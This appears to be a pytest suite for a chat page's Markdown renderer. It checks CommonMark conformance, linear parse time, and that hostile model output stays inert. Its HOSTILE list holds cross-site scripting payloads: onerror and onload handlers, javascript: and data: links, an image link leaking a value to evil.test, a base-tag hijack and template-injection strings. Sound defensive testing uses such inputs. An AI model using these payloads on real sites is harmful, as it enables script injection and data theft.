"""The chat page's Markdown: as CommonMark has it where it is understood, and harmless whatever a model says."""

from __future__ import annotations

import json
import random
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt
from page_parts import SHOWN

TAGS = (
    *("p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr", "table", "thead"),
    *("tbody", "tr", "th", "td", "strong", "em", "del", "a", "div", "button"),
)
TEXTS = {
    "emphasis": "Some **bold**, *soft*, __bold__, _soft_, ~~gone~~ and **bold *soft* bold**.",
    "no emphasis": "2 * 3 * 4, a snake_case_name, * lone, ** two, 5*6*7 _ x, **open",
    "code": "Call `f(*x*)`, ``a ` b`` and `<b>`; `open",
    "escapes": r"\*not soft\*, \`no code\`, \<b>, 1\. and a back\slash",
    "paragraphs": "One.\nStill one.\n\n\nTwo.",
    "headings": "# One\nText\n## Two **bold**\n#none\n",
    "fence": "Text\n```python\nif a < b:\n\n    **no** <b>\n```\nText\n~~~\n```\n~~~\n",
    "open fence": "```\na\nb",
    "lists": "- one\n- two\n  - deep\n  - deeper\n- three\n\nText\n\n3. three\n4. four",
    "list after text": "Here:\n- one\n* other\n+ third\n\nThe year\n1986. was\n1. first",
    "items of several paragraphs": "1. one\n\n   more\n\n   ```\n   code\n   ```\n2. two",
    "quotes": "> one\n> *two*\n>\n> > deep\n\nText",
    "rules": "a\n\n---\n\n***\n\n_ _ _\n",
    "links": '[a link](https://example.org/a_(b)?c=d&e=f), <https://example.org/x> and [titled](http://e.test/ "T").',
    "table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| <i> | |\n",
    "markup": "<b>bold</b> <script>alert(1)</script> &amp; &lt;",
}
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</div></main><iframe src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "[x](java\tscript:alert(1)) [x](&#106;avascript:alert(1)) [x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.test)",
    '[x](https://e.test/"onmouseover="alert(1)) [x](https://e.test/ "t\\" onload=\\"alert(1)")',
    "![x](https://evil.test/leak.png?q=secret) ![x](x.png)",
    "```<img onerror=alert(1)>\n</code><img src=x onerror=alert(1)>\n```",
    "|<svg onload=alert(1)>|b|\n|-|-|\n|<b>|`|`|",
    "<a href='javascript:alert(1)'>x</a> <style>*{display:none}</style> <base href=//evil.test>",
    "\u202emp3.exe \u0000 \ud83d **\u200b** [\u2028](https://e.test/\u2028)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} \\<img src=x onerror=alert(1)>",
)
RENDERED = """import('/page/markdown.js').then(({markdown}) => {
    const d = document.createElement('div');
    d.append(markdown(TEXT));
    return WHAT; })"""
MARKS = (
    *("*", "**", "_", "__", "~~", "`", "```", "> ", "- ", "1. ", "# ", "[", "](", ")", "<", ">", "!", "\\", " ", "|"),
    *("|-|", "\n", "\n\n", "https://e.test/", "javascript:", "alert", "(", "  ", "\t", "word", "é", "🛶"),
)
PARTS = (
    *("*a ", "**a ", "_a ", "`", "` a", "[", "[a](", "[](", "![a](b(", '[a](b "c', "<https://", "https://", "> ", "- "),
    *("- a\n  ", "1. ", "> - ", "# ", "~~a", "***", "**a* ", "\\", "\n", "```\n", "\t", "|", "|-\n"),
)


def rendered(browser: Any, text: str, what: str = "d.innerHTML") -> Any:
    """What the page makes of a text."""
    return browser.run(RENDERED.replace("WHAT", what).replace("TEXT", json.dumps(text)))


class Outline(HTMLParser):
    """Markup as tags, addresses and words, whatever its blanks."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.skipped = 0
        self.feed(markup)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        about = {name: value for name, value in attributes if name in ("href", "start")}
        if tag == "div" and dict(attributes).get("class") == "code-head":
            self.skipped = 1
        elif tag != "div" and not self.skipped:
            self.parts.append(f"<{tag} {about}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "div":
            self.skipped = 0
        elif not self.skipped and tag != "hr":
            self.parts.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        if not self.skipped:
            self.parts += data.split()


@pytest.fixture
def page(browser: Any, address: str) -> Any:
    """A browser that shows the page."""
    if not browser.run(f"location.href.startsWith({address!r})"):
        browser.open(address)
    browser.errors.clear()
    browser.requests.clear()
    return browser


@pytest.mark.parametrize("name", TEXTS)
def test_markdown_is_what_commonmark_makes_of_it(page: Any, name: str) -> None:
    reference = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]).disable("entity")
    markup = re.sub(
        r"(</?)h(\d)", lambda found: f"{found[1]}h{min(6, int(found[2]) + 1)}", reference.render(TEXTS[name])
    )
    markup = markup.replace("<s>", "<del>").replace("</s>", "</del>")
    markup = re.sub(r"(<li>|</li>|<blockquote>)\s*<p>(.*?)</p>", r"\1\2", markup, flags=re.S)
    found = rendered(page, TEXTS[name])
    found = re.sub(r"(<blockquote>)\s*<p>(.*?)</p>", r"\1\2", found, flags=re.S)
    assert Outline(found).parts == Outline(markup).parts


def harmless(browser: Any, text: str) -> None:
    """Nothing but what Markdown has, and no address but of the web; all words are there."""
    tags = rendered(browser, text, "[...d.querySelectorAll('*')].map(one => one.localName)")
    assert set(tags) <= set(TAGS), tags
    names = rendered(browser, text, "[...d.querySelectorAll('*')].flatMap(one => one.getAttributeNames())")
    assert set(names) <= {"href", "title", "target", "rel", "start", "class", "tabindex", "type"}, names
    links = rendered(browser, text, "[...d.querySelectorAll('a')].map(one => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}, links
    assert set(rendered(browser, text, "[...d.querySelectorAll('a')].map(one => one.rel)")) <= {
        "noopener noreferrer nofollow"
    }


def test_hostile_answers_stay_text(page: Any) -> None:
    for text in (*HOSTILE, "\n\n".join(HOSTILE), "> - " + "\n> - ".join(HOSTILE)):
        harmless(page, text)
        page.run(SHOWN.replace("TEXT", json.dumps(text)))
    assert page.run("document.querySelectorAll('main img, main script, main iframe, main style, main svg').length") == 0
    assert page.errors == [] and page.requests == []


def test_no_script_of_the_page_can_make_markup_or_code_of_a_text(page: Any) -> None:
    for attempt in ("document.body.innerHTML = '<b>x</b>'", "document.createElement('script').text = 'x'"):
        assert (
            page.run(f"(() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }})()")
            == "TypeError"
        )


def test_any_mixture_of_marks_is_harmless_and_loses_no_word(page: Any) -> None:
    draw = random.Random(0)
    texts = ["".join(draw.choices(MARKS, k=draw.randrange(1, 40))) for _ in range(300)]
    script = """import('/page/markdown.js').then(({markdown}) => TEXTS.map(text => {
        const box = document.createElement('div'); box.append(markdown(text));
        const names = [...box.querySelectorAll('*')].map(one => one.localName), links = [...box.querySelectorAll('a')];
        return [names, links.map(one => one.protocol), box.textContent + links.map(one => one.href)]; }))"""
    for text, (tags, links, words) in zip(texts, page.run(script.replace("TEXTS", json.dumps(texts))), strict=True):
        assert set(tags) <= set(TAGS) and set(links) <= {"http:", "https:"}, text
        fences = text.count("```")  # the language of a block of code, and what is after it, may be cut
        if not fences:
            assert all(words.count(word) >= text.count(word) for word in ("word", "🛶", "é", "alert")), text


@pytest.mark.parametrize("part", PARTS)
def test_time_grows_with_length_alone(page: Any, part: str) -> None:
    timed = """import('/page/markdown.js').then(({markdown}) => [8000, 128000].map(size => {
        const text = PART.repeat(size / PART.length + 1), times = [];
        for (let i = 0; i < 5; i++) {
            const from = performance.now();
            markdown(text);
            times.push(performance.now() - from);
        }
        return Math.min(...times); }))"""
    short, long = page.run(timed.replace("PART", json.dumps(part)))
    # milliseconds, the least of five, of sixteen times as much: 256 times as long if it grew with the square
    assert long < 80 * short + 300, (part, short, long)
